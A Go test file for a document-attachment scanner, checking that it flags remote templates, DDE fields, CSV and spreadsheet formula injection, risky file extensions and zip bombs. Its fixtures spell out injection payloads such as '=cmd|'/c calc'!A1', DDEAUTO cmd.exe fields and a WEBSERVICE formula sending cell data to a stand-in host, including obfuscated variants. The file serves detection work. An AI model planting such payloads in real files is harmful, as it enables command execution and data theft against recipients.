package attached_test

import (
	"archive/zip"
	"bytes"
	"slices"
	"strings"
	"testing"

	"orangelab.cn/rightsdesk/app/attached"
	"orangelab.cn/rightsdesk/model/look"
)

// packed is a zip of parts, by their names.
func packed(t *testing.T, parts map[string]string) []byte {
	t.Helper()
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	for name, text := range parts {
		w, err := z.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(text)); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func TestADocumentSaysWhatItLoadsAndStarts(t *testing.T) {
	office := func(name, text string) []byte {
		return packed(t, map[string]string{"[Content_Types].xml": `<Types/>`,
			"word/document.xml": `<w:document><w:body/></w:document>`, name: text})
	}
	relation := func(kind, target, mode string) []byte {
		return office("word/_rels/document.xml.rels",
			`<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/`+kind+`" Target="`+target+`"`+mode+`/></Relationships>`)
	}
	const external = ` TargetMode="External"`
	table := func(formula string) []byte {
		return office("xl/worksheets/sheet1.xml", `<worksheet><c><f>`+formula+`</f><v>1</v></c></worksheet>`)
	}
	open := func(content string) []byte {
		return packed(t, map[string]string{"mimetype": "application/vnd.oasis.opendocument.text",
			"content.xml": `<office:document-content xmlns:xlink="x" xmlns:draw="d" xmlns:text="t" xmlns:table="tb">` +
				content + `</office:document-content>`})
	}
	field := func(pieces ...string) []byte {
		text := `<w:document><w:fldChar w:fldCharType="begin"/>`
		for _, p := range pieces {
			text += `<w:r><w:instrText xml:space="preserve">` + p + `</w:instrText></w:r>`
		}
		return office("word/document.xml",
			text+`<w:fldChar w:fldCharType="separate"/><w:t>1</w:t><w:fldChar w:fldCharType="end"/></w:document>`)
	}
	outside, starts, formula := []look.Active{look.Outside}, []look.Active{look.Document}, []look.Active{look.Formula}
	for _, c := range []struct {
		what, name string
		data       []byte
		want       []look.Active
	}{
		{"a template of somebody's server", "a.docx", relation("attachedTemplate", "http://far.test/t.dotm", external),
			outside},
		{"the writer's own template", "a.docx", relation("attachedTemplate", `file:///C:\Office\Normal.dotm`, external),
			nil},
		{"a picture on a share", "a.docx", relation("image", `\\far.test\x.png`, external), outside},
		{"a picture within", "a.docx", relation("image", `media/x.png`, ""), nil},
		{"a mode spelt by numbers", "a.docx", relation("image", `http://far.test/x`, ` TargetMode="&#69;xternal"`),
			outside},
		{"a link to click", "a.docx", relation("hyperlink", "https://far.test", external), nil},
		{"a field that starts a program", "a.docx", field(`DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"`), starts},
		{"a field in pieces", "a.docx", field(` D`, `DEA`, `UTO cmd`), starts},
		{"a field spelt by numbers", "a.docx", field(` QUOTE 68 68 69 65 85 84 79 `), starts},
		{"a simple field", "a.docx",
			office("word/header1.xml",
				`<w:hdr><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://far.test/x&quot; "/></w:hdr>`), outside},
		{"a field of a page number", "a.docx", field(` PAGE \* MERGEFORMAT`), nil},
		{"a field that is a link", "a.docx", field(` HYPERLINK "https://far.test/LINK/DDE"`), nil},
		{"a part that is no XML", "a.docx", office("word/_rels/document.xml.rels", "\xff\xfe<\x00R\x00"),
			[]look.Active{look.Unseen}},
		{"a formula that asks a server", "a.xlsx", table(`WEBSERVICE(&quot;http://far.test/&quot;&amp;A1)`), outside},
		{"a formula of another table", "a.xlsx", table(`'http://far.test/[b.xlsx]S'!A1`), outside},
		{"a formula that starts a program", "a.xlsx", table(`cmd|'/c calc'!A1`), starts},
		{"a sum", "a.xlsx", table(`SUM(A1:A9)*IF(B1&gt;2,1,0)`), nil},
		{"a connection", "a.xlsx", office("xl/connections.xml", `<connections><connection id="1"/></connections>`),
			outside},
		{"a picture of an open text", "a.odt", open(`<draw:image xlink:href="http://far.test/x.png"/>`), outside},
		{"its own picture", "a.odt",
			open(`<draw:image xlink:href="Pictures/x.png"/><text:a xlink:href="https://far.test">x</text:a>`), nil},
		{"an open text that starts a program", "a.odt",
			open(`<text:dde-connection-decl office:dde-application="cmd"/>`), starts},
		{"a template in RTF", "a.rtf", []byte(`{\rtf1\ansi{\*\template http://far.test/t.dotm}Hello}`), outside},
		{"a template in RTF, coded", "a.rtf", []byte(`{\rtf1{\*\template {\'68ttp}:\'2f/far.test/t.dotm}Hello}`),
			outside},
		{"the writer's own in RTF", "a.rtf", []byte(`{\rtf1{\*\template C:\\Office\\Normal.dotm}Hello}`), nil},
		{"a picture in RTF", "a.rtf",
			[]byte(`{\rtf1\ansi{\field{\*\fldinst{INCLUDEPICTURE "http://far.test/x.png" \\d}}}Hello}`), outside},
		{"a field in RTF, in pieces", "a.rtf", []byte(`{\rtf1{\field{\*\fldinst{\rtlch DD}{\b EA\'55TO cmd}}}}`),
			starts},
		{"RTF with a cut head", "a.doc", []byte(`{\rt{\field{\*\fldinst DDE cmd}}}`), starts},
		{"an old document with a field", "a.doc", append(ole("WordDocument"), "\x13 DDEAUTO c:\\x \x14"...), starts},
		{"an old document with a wide field", "a.doc",
			append(ole("WordDocument"), "\x13\x00 \x00D\x00D\x00E\x00 \x00"...), starts},
		{"a table with a formula", "a.csv", []byte("name,mail\n=cmd|'/c calc'!A1,x@y.test\n"), formula},
		{"one behind blanks and marks", "a.csv", []byte("name;mail\nx; \"=1+1\"\n"), formula},
		{"one behind a blank that does not break", "a.csv", []byte("x,\u00a0\u3000=1+1\n"), formula},
		{"one with a sign", "a.tsv", []byte("x\t@SUM(1+1)\n"), formula},
		{"one in UTF-16", "a.csv", []byte("\xff\xfea\x00,\x00=\x00A\x001\x00\n\x00"), formula},
		{"SYLK under another name", "a.csv", []byte("ID;PWXL;N;E\nE\n"), formula},
		{"a table of numbers, telephones and names", "a.csv",
			[]byte("a,b\n-5,+8613812345678\n@handle,-\n==,\"=\"\n2020-01-01,a=b\n"), nil},
		{"a letter with a formula is no table", "a.txt", []byte("=1+1"), nil},
	} {
		got := attached.Look(c.name, "", c.data).Active
		slices.Sort(got)
		slices.Sort(c.want)
		if !slices.Equal(got, c.want) {
			t.Errorf("%s: %v, want %v", c.what, got, c.want)
		}
	}
}

func TestAnEndingThatASystemGoesByIsNamed(t *testing.T) {
	text := []byte("anything at all\n")
	for _, name := range strings.Fields(`x.command x.terminal x.msc x.settingcontent-ms x.jnlp x.sct x.wsc x.application x.ps1xml x.inf x.vhdx x.msix x.appinstaller x.appref-ms x.diagcab x.mobileconfig
		x.workflow x.scpt x.run x.pyz x.vb x.ws x.theme x.shs X.Command`) {
		if l := attached.Look(name, "", text); !slices.Contains(l.Active, look.Program) {
			t.Errorf("%s: %v", name, l.Active)
		}
	}
	for _, name := range strings.Fields(`x.iqy x.library-ms x.search-ms x.odc x.rdp x.m3u`) {
		if l := attached.Look(name, "", text); !slices.Contains(l.Active, look.Outside) {
			t.Errorf("%s: %v", name, l.Active)
		}
	}
	if l := attached.Look("x.slk", "", text); !slices.Contains(l.Active, look.Formula) {
		t.Errorf("x.slk: %v", l.Active)
	}
	if l := attached.Look("invoice.xml", "", []byte(`<?xml version="1.0"?><Invoice/>`)); len(l.Active) > 0 {
		t.Errorf("an invoice: %v", l.Active)
	}
	if l := attached.Look("invoice.xml", "",
		[]byte(`<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><Invoice/>`)); !slices.Contains(l.Active,
		look.Page) {
		t.Errorf("an invoice with a style of its own: %v", l.Active)
	}
}

func TestADocumentThatUnpacksWithoutEndIsUnseen(t *testing.T) {
	big := packed(t, map[string]string{"[Content_Types].xml": "<x/>",
		"word/document.xml": "<w:document>" + strings.Repeat("<w:p></w:p>", 1<<20) + "</w:document>"})
	if l := attached.Look("a.docx", "", big); !slices.Equal(l.Active, []look.Active{look.Unseen}) || len(big) > 1<<20 {
		t.Errorf("%v in %d bytes", l.Active, len(big))
	}
}
